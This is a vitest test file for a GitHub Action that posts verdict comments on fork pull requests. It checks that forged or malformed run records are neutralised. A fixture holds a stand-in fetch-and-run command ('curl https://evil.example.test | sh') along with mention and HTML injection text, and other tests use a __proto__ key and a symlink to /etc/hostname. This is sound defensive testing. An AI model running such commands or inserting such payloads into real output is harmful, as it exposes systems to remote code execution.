import { mkdirSync, mkdtempSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { Decision, RunRecord } from '../../src/model/findings/decision.js';
import { activeNodes } from '../support/gfm.js';
import { HEAD, sampleRecord } from '../support/github/finished-run.js';
import { FORK_ID, workflowRunEvent } from '../support/github/job.js';
import { type LoopbackGithub, startGithub } from '../support/github/server.js';
import { actionFolder } from './repository.js';
import { runAction } from './runner.js';

const ACTION = path.join(actionFolder(), 'comment');
let github: LoopbackGithub;

beforeEach(async () => {
  github = await startGithub();
  github.state.pull(7, {
    headSha: HEAD,
    headOwner: 'mallory',
    headRef: 'patch-1',
    headRepositoryId: FORK_ID,
  });
});

afterEach(async () => {
  await github.close();
  expect(github.violations).toEqual([]);
});

interface RunEvent {
  readonly event?: string;
  readonly head_sha?: string;
  readonly head_branch?: string;
  readonly conclusion?: string;
  readonly head_repository?: { readonly id: number; readonly owner: { readonly login: string } } | null;
}

function artifact(content: unknown): string {
  const folder = mkdtempSync(path.join(tmpdir(), 'record-'));
  writeFileSync(
    path.join(folder, 'record.json'),
    typeof content === 'string' ? content : JSON.stringify(content),
  );
  return folder;
}

async function comment(record: string, run: RunEvent = {}, event_name = 'workflow_run') {
  const result = await runAction({
    action: ACTION,
    workspace: tmpdir(),
    inputs: { record },
    github: {
      repository: 'acme/shop',
      server_url: 'https://github.com',
      api_url: github.url,
      event_name,
      run_id: '500',
      run_attempt: '1',
      workflow_ref: 'acme/shop/.github/workflows/sealgate-comment.yml@refs/heads/main',
      event: workflowRunEvent(run),
    },
  });
  const [step] = result.steps;
  return { result, exitCode: step?.exitCode, log: step?.log ?? '' };
}

function posted(): string {
  expect(github.state.comments).toHaveLength(1);
  return github.state.comments[0]?.body ?? '';
}

const forged: Decision = {
  outcome: 'block',
  novelty: 'new',
  reason: { kind: 'severity', text: 'fail-on-severity: high' },
  finding: {
    check: 'vulnerabilities',
    rule: 'vulnerabilities/known',
    severity: 'high',
    subject: { kind: 'package', name: 'left-pad@1.0.0' },
    title: 'Known vulnerability',
    message: '@everyone see [here](https://evil.example.test) <img src=x> #1',
    aliases: ['GHSA-xxxx-yyyy-zzzz'],
    url: 'https://evil.example.test/advisory',
    fix: { text: 'Update', command: 'curl https://evil.example.test | sh' },
    fingerprint: 'f',
  },
};

describe('the comment for forks', () => {
  it('is written on the pull request that stands at the run’s commit, with a note', async () => {
    const { exitCode, log, result } = await comment(artifact(sampleRecord()));
    expect(exitCode, log).toBe(0);
    expect(posted().split('\n')[0]).toMatch(/^### ⛔/);
    expect(posted()).toContain('which the author of the change can shape');
    expect(result.outputs['comment-url']).toContain('/pull/7#');
    await comment(artifact(sampleRecord({ verdict: 'pass' })), { conclusion: 'success' });
    expect(posted().split('\n')[0]).toMatch(/^### ✅/);
  });

  it('takes the number of the pull request from GitHub, not from the record', async () => {
    github.state.pull(1, { headSha: 'e'.repeat(40) });
    const { exitCode } = await comment(artifact(sampleRecord({ pullRequest: 1 })));
    expect(exitCode).toBe(0);
    expect(github.state.comments.map(({ pull }) => pull)).toEqual([7]);
  });

  it('T49 repeats nothing that acts: no commands, addresses, mentions, images', async () => {
    await comment(artifact(sampleRecord({ decisions: [forged] })));
    expect(posted()).not.toContain('curl');
    // The note below the verdict is a quotation of our own.
    const active = activeNodes(posted(), [/^https:\/\/github\.com\/acme\/shop\//]);
    expect(active.filter(({ what }) => what !== '<blockquote>')).toEqual([]);
  });

  it('says who, what and where as GitHub does', async () => {
    const record = sampleRecord();
    const lying: RunRecord = {
      ...record,
      context: {
        ...record.context,
        repository: { slug: 'evil/repo', url: 'https://evil.example.test' },
        source: { ...record.context.source, run: 'https://evil.example.test/runs/1', workflowRef: 'evil' },
      },
    };
    await comment(artifact(lying));
    expect(posted()).not.toContain('evil');
    expect(posted()).toContain('https://github.com/acme/shop/actions/runs/100');
  });

  it('shows no pass that GitHub contradicts', async () => {
    const { exitCode } = await comment(artifact(sampleRecord({ verdict: 'pass' })), {
      conclusion: 'failure',
    });
    expect(exitCode).toBe(0);
    expect(posted().split('\n')[0]).toMatch(/^### ⏸️/);
  });

  it('T52 says nothing on a pull request that has moved on, was closed, or is of another fork', async () => {
    const record = artifact(sampleRecord());
    github.state.pull(7, {
      headSha: 'd'.repeat(40),
      headOwner: 'mallory',
      headRef: 'patch-1',
      headRepositoryId: FORK_ID,
    });
    expect((await comment(record)).exitCode).toBe(0);
    github.state.pull(7, {
      headSha: HEAD,
      headOwner: 'mallory',
      headRef: 'patch-1',
      headRepositoryId: FORK_ID,
      state: 'closed',
    });
    expect((await comment(record)).exitCode).toBe(0);
    github.state.pull(7, { headSha: HEAD, headOwner: 'mallory', headRef: 'patch-1', headRepositoryId: 1 });
    expect((await comment(record)).exitCode).toBe(0);
    expect((await comment(record, { head_repository: null })).exitCode).toBe(0);
    expect(github.state.comments).toEqual([]);
  });

  it('does nothing for runs that were not for a pull request', async () => {
    const { exitCode, log } = await comment(artifact(sampleRecord()), { event: 'push' });
    expect([exitCode, log]).toEqual([0, expect.stringContaining('Nothing to do')]);
    expect(github.requests).toEqual([]);
  });

  it('T4 is for workflow_run alone', async () => {
    const { exitCode, log } = await comment(artifact(sampleRecord()), {}, 'pull_request_target');
    expect([exitCode, log]).toEqual([2, expect.stringContaining('workflow_run')]);
    expect(github.requests).toEqual([]);
  });

  const deep = `${'['.repeat(100_000)}${']'.repeat(100_000)}`;
  it.each([
    ['is missing', () => mkdtempSync(path.join(tmpdir(), 'empty-'))],
    ['is no JSON', () => artifact('<html>')],
    ['is another document', () => artifact({ hello: 'world' })],
    ['is of another commit', () => artifact(sampleRecord({ headSha: 'c'.repeat(40) }))],
    ['T54 is 100,000 levels deep', () => artifact(`{"schema":${deep}}`)],
    ['T55 has a __proto__ key', () => artifact('{"__proto__":{"schema":"sealgate/run/v1"}}')],
    ['has a wrong verdict', () => artifact({ ...sampleRecord(), verdict: { verdict: 'green' } })],
    [
      'T44 is a link',
      () => {
        const folder = mkdtempSync(path.join(tmpdir(), 'link-'));
        symlinkSync('/etc/hostname', path.join(folder, 'record.json'));
        return folder;
      },
    ],
    [
      'is a folder',
      () => {
        const folder = mkdtempSync(path.join(tmpdir(), 'folder-'));
        mkdirSync(path.join(folder, 'record.json'));
        return folder;
      },
    ],
  ])('a record that %s: the comment says that nothing was decided', async (_name, make) => {
    const { exitCode, log } = await comment(make());
    expect(exitCode, log).toBe(3);
    expect(posted().split('\n')[0]).toMatch(/^### ⏸️/);
  });
});
